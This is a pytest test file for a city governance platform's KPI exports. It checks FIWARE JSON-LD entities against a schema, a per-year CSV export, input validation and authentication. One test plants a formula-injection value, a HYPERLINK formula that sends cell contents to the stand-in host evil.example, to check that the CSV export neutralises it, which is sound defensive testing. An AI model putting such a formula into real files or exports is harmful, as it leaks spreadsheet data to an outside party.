"""The exports a city already uses: every indicator, the verdict and the milestone as FIWARE
KeyPerformanceIndicator entities valid against the model's published JSON Schema (vendored in
schemas/, validated offline), and every indicator by year as CSV whose text cells no spreadsheet
runs as a formula."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, date, datetime
from pathlib import Path

import jsonschema
import pytest
from referencing import Registry, Resource

from livinglab_platform.data.cells import FORMULA_STARTS
from livinglab_platform.governance import forms, kpi
from livinglab_platform.governance.schemas import FormCreate
from tests.api.world import CLI
from tests.governance.record import application, form, meeting

G = "/api/v1/governance"
SCHEMAS = Path(__file__).parent / "schemas"
COMMON_ID = "https://smart-data-models.github.io/data-models/common-schema.json"


def _validator() -> jsonschema.Draft202012Validator:
    schema = json.loads((SCHEMAS / "KeyPerformanceIndicator.schema.json").read_text())
    common = json.loads((SCHEMAS / "common-schema.json").read_text())
    # The model's schema names the common schema by its URL; it resolves to the vendored copy.
    registry = Registry().with_resource(COMMON_ID, Resource.from_contents(common))
    return jsonschema.Draft202012Validator(
        schema,
        registry=registry,
        format_checker=jsonschema.Draft202012Validator.FORMAT_CHECKER,
    )


def _key_values(entity: dict) -> dict:
    """The normalised entity unwrapped, after checking that every attribute is a Property."""
    values = {k: entity[k] for k in ("id", "type") if k in entity}
    for name, attribute in entity.items():
        if name in ("id", "type", "@context"):
            continue
        assert set(attribute) == {"type", "value"}, (name, attribute)
        assert attribute["type"] == "Property", (name, attribute)
        values[name] = attribute["value"]
    return values


def _errors(entity: dict) -> list[str]:
    return [e.message for e in _validator().iter_errors(_key_values(entity))]


def test_the_validator_refuses_what_the_schema_forbids():
    # The validation can fail: the model's own example passes, broken copies do not.
    example = json.loads(
        (SCHEMAS / "KeyPerformanceIndicator.example-normalized.jsonld").read_text()
    )
    # The example writes these two as JSON-LD DateTime objects, not the schema's strings.
    example.pop("dateNextCalculation")
    example.pop("modifiedAt")
    assert _errors(example) == []
    for name, bad in [
        ("currentStanding", "excellent"),
        ("calculationFrequency", "every now and then"),
        ("category", ["important"]),
        ("calculationPeriod", {"from": "2025-13-01", "to": "2025-12-31"}),
    ]:
        broken = {**example, name: {"type": "Property", "value": bad}}
        assert _errors(broken), name
    assert _errors({**example, "type": "Indicator"})
    assert _errors({k: v for k, v in example.items() if k != "id"})


def _record(conn) -> None:
    form(
        conn,
        "mol_family",
        ["mol", "energetika"],
        date(2024, 3, 1),
        link="https://x.si/a",
    )
    form(conn, "horizontal", ["mol", "maribor"], date(2025, 1, 1), statement="agreed")
    meeting(conn, datetime(2025, 5, 5, 10, tzinfo=UTC), statement="minutes pending")
    for on in (date(2025, 2, 1), date(2025, 3, 1)):
        application(conn, [("submitted", on)])


def test_every_kpi_entity_is_valid_against_the_model(client, world, conn):
    _record(conn)
    r = client.get(f"{G}/kpi", params={"year": 2025}, headers=world.headers("viewer"))
    assert r.status_code == 200, r.text
    assert r.headers["content-type"].startswith("application/ld+json")
    entities = r.json()
    keys = [e["id"].split(":")[-2] for e in entities]
    assert keys == [
        "mol_family_form",
        "horizontal_link",
        "vertical_link",
        "council_meetings",
        "applications_submitted",
        "working_living_lab",
        "goal_verdict",
        "milestone",  # as of the year's last day: its id ends with the date
    ]
    for entity in entities:
        assert _errors(entity) == [], entity["id"]
        assert entity["type"] == "KeyPerformanceIndicator"
        assert entity["@context"] == kpi.CONTEXT
    values = {e["id"]: _key_values(e) for e in entities}
    mol = values["urn:ngsi-ld:KeyPerformanceIndicator:ljubljana:mol_family_form:2025"]
    assert mol["kpiValue"] == 1
    assert mol["currentStanding"] == "veryGood"
    assert mol["category"] == ["input", "quantitative"]
    assert mol["calculationPeriod"] == {"from": "2025-01-01", "to": "2025-12-31"}
    assert (mol["calculationFrequency"], mol["calculationMethod"]) == (
        "yearly",
        "automatic",
    )
    assert mol["source"].endswith("/api/v1/governance/indicators?year=2025")
    assert "dateNextCalculation" not in mol  # a closed year
    standings = {k.split(":")[-2]: v.get("currentStanding") for k, v in values.items()}
    # Met on a statement only: good; 2 of 3 applications: fair; nothing: veryBad.
    assert standings["horizontal_link"] == "good"
    assert standings["council_meetings"] == "good"
    assert standings["applications_submitted"] == "fair"
    assert standings["vertical_link"] == "veryBad"
    verdict = values["urn:ngsi-ld:KeyPerformanceIndicator:ljubljana:goal_verdict:2025"]
    assert (verdict["kpiValue"], verdict["alternateName"]) == (
        "partially_achieved",
        "Cilj je delno dosežen",
    )
    stone = values["urn:ngsi-ld:KeyPerformanceIndicator:ljubljana:milestone:2025-12-31"]
    assert stone["kpiValue"]["achieved"] is False
    assert len(stone["kpiValue"]["criteria"]) == 7


def test_the_current_year_says_when_it_is_computed_next(client, world):
    year = datetime.now(UTC).year
    r = client.get(f"{G}/kpi", params={"year": year}, headers=world.headers("partner"))
    assert r.status_code == 200, r.text
    for entity in r.json():
        assert _errors(entity) == []
        assert "dateNextCalculation" in entity


def _csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_the_csv_holds_every_indicator_by_year_with_the_verdict(client, world, conn):
    _record(conn)
    r = client.get(
        f"{G}/indicators.csv",
        params={"from": 2024, "to": 2025},
        headers=world.headers("viewer"),
    )
    assert r.status_code == 200, r.text
    assert r.headers["content-type"] == "text/csv; charset=utf-8"
    assert "indicators-2024-2025.csv" in r.headers["content-disposition"]
    rows = _csv(r.text)
    by = {(row["year"], row["indicator"]): row for row in rows}
    assert {row["year"] for row in rows} == {"2024", "2025"}
    mol = by[("2024", "mol_family_form")]
    assert (mol["value"], mol["target"], mol["met"], mol["verdict_sl"]) == (
        "1",
        "1",
        "true",
        "Cilj je delno dosežen",
    )
    apps = by[("2025", "applications_submitted")]
    assert (apps["value"], apps["target"], apps["met"]) == ("2", "3", "false")
    assert by[("2025", "horizontal_link")]["self_reported_only"] == "true"
    assert by[("2025", "lab.funds_won_total")]["value"] == "0"
    assert by[("2025", "lab.trials_started")]["target"] == ""
    # The same numbers as the indicators' own endpoint.
    own = client.get(
        f"{G}/indicators", params={"year": 2025}, headers=world.headers("viewer")
    ).json()
    for i in own["indicators"]:
        assert by[("2025", i["key"])]["value"] == str(i["value"])
        assert by[("2025", i["key"])]["verdict"] == own["verdict"]["key"]


def test_a_form_named_as_a_formula_is_text_in_the_csv(client, world, conn):
    # The attack: a record's name (typed, or imported from a file) that a spreadsheet would run.
    hostile = '=HYPERLINK("https://evil.example/?"&A1,"open")'
    forms.create_form(
        conn,
        CLI,
        form=FormCreate.model_validate(
            {
                "kind": "mol_family",
                "name": hostile,
                "starts_on": "2025-01-01",
                "members": [{"organisation_id": "mol"}, {"organisation_id": "lab"}],
            }
        ),
    )
    conn.commit()
    r = client.get(
        f"{G}/indicators.csv",
        params={"from": 2025, "to": 2025},
        headers=world.headers("viewer"),
    )
    assert r.status_code == 200, r.text
    cell = next(row for row in _csv(r.text) if row["indicator"] == "mol_family_form")
    assert cell["records"].startswith("'=HYPERLINK(")
    risky = [
        value
        for row in _csv(r.text)
        for value in row.values()
        if value and value[0] in FORMULA_STARTS
    ]
    assert risky == []


@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"from": 2026, "to": 2024}, "to"),
        ({"from": 2000, "to": 2100}, "to"),
        ({"from": 1999}, "from"),
    ],
)
def test_bad_year_ranges_name_their_field(client, world, params, field):
    r = client.get(
        f"{G}/indicators.csv", params=params, headers=world.headers("operator")
    )
    assert r.status_code in (400, 422), r.text
    assert field in {e["field"] for e in r.json()["errors"]}, r.text


def test_only_signed_in_people_read_the_exports(client):
    # The attack: reading the city's indicators without a token.
    assert client.get(f"{G}/kpi", params={"year": 2025}).status_code == 401
    assert client.get(f"{G}/indicators.csv").status_code == 401
